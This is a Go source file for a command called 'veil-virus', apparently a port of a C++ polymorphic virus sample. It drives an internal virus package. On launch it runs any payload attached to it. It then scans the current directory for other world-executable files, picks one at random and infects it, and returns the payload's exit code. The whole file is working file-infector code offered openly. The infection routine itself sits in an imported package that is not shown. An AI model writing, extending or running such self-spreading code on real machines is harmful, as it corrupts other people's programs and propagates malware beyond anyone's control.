// Command veil-virus is a thin test driver over internal/virus,
// mirroring the original C++ poly source's example/virus_sample.cpp:
// on launch, run any attached payload, infect one other executable
// found in the current directory, wait for the payload to finish, then
// exit with its result. dirTargetSelect and blockingExec below are this
// driver's own TargetSelect/Exec policies, translated one for one from
// virus_sample.cpp's TargetSelectPolicy and BlockingExec.
package main

import (
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"

	"github.com/xyproto/veil/internal/config"
	"github.com/xyproto/veil/internal/rng"
	"github.com/xyproto/veil/internal/virus"
)

func main() {
	var (
		verbose     = flag.Bool("v", false, "verbose mode (show infection messages)")
		verboseLong = flag.Bool("verbose", false, "verbose mode (show infection messages)")
	)
	flag.Parse()

	cfg := config.FromEnv()
	if *verbose || *verboseLong {
		cfg.Verbose = true
	}
	cfg.Apply()

	args := append([]string{os.Args[0]}, flag.Args()...)
	code, err := run(args, os.Environ())
	if err != nil {
		fmt.Fprintf(os.Stderr, "veil-virus: %v\n", err)
		os.Exit(1)
	}
	os.Exit(code)
}

// run is virus_sample.cpp's main translated to Go's (value, error) idiom
// in place of bare process-exit-code branches.
func run(args, env []string) (int, error) {
	v, err := virus.Build(newDirTargetSelect(args[0]), &blockingExec{}, args, env)
	if err != nil {
		return 1, err
	}

	execErr := v.ExecAttachedProgram()
	hasAttachedBin := execErr == nil
	if execErr != nil && execErr != virus.ErrNoTargetAttached {
		return 2, execErr
	}

	if err := v.InfectNext(""); err != nil {
		return 3, err
	}
	if hasAttachedBin {
		if err := v.WaitExecEnd(); err != nil {
			return 3, err
		}
	}

	if hasAttachedBin {
		return v.ExecResult(), nil
	}
	return 0, nil
}

// dirTargetSelect is virus_sample.cpp's TargetSelectPolicy: at
// construction, scan the current directory once for world-executable
// regular files other than the running program itself, then NextTarget
// picks uniformly among them (no retry: the running program is never a
// candidate).
type dirTargetSelect struct {
	candidates []string
}

func newDirTargetSelect(runningPath string) *dirTargetSelect {
	entries, err := os.ReadDir(".")
	if err != nil {
		return &dirTargetSelect{}
	}
	self, _ := filepath.Abs(runningPath)

	var candidates []string
	for _, entry := range entries {
		if entry.IsDir() {
			continue
		}
		info, err := entry.Info()
		if err != nil || info.Mode().Perm()&0o001 == 0 {
			continue
		}
		path, err := filepath.Abs(entry.Name())
		if err != nil || path == self {
			continue
		}
		candidates = append(candidates, path)
	}
	return &dirTargetSelect{candidates: candidates}
}

func (s *dirTargetSelect) NextTarget(runningPath string) string {
	if len(s.candidates) == 0 {
		return ""
	}
	return s.candidates[rng.Default().Intn(len(s.candidates))]
}

// blockingExec is virus_sample.cpp's BlockingExec: exec runs the
// attached payload to completion synchronously (its name says so), so
// Wait is a no-op and Result just reports what Exec already recorded.
type blockingExec struct {
	result int
}

func (b *blockingExec) Exec(prog string, args, env []string) {
	cmd := exec.Command(prog, args...)
	cmd.Env = env
	cmd.Stdout = os.Stdout
	cmd.Stderr = os.Stderr
	cmd.Stdin = os.Stdin

	err := cmd.Run()
	if err == nil {
		b.result = 0
		return
	}
	if exitErr, ok := err.(*exec.ExitError); ok {
		b.result = exitErr.ExitCode()
		return
	}
	b.result = -1
}

func (b *blockingExec) Wait() {}

func (b *blockingExec) Result() int { return b.result }
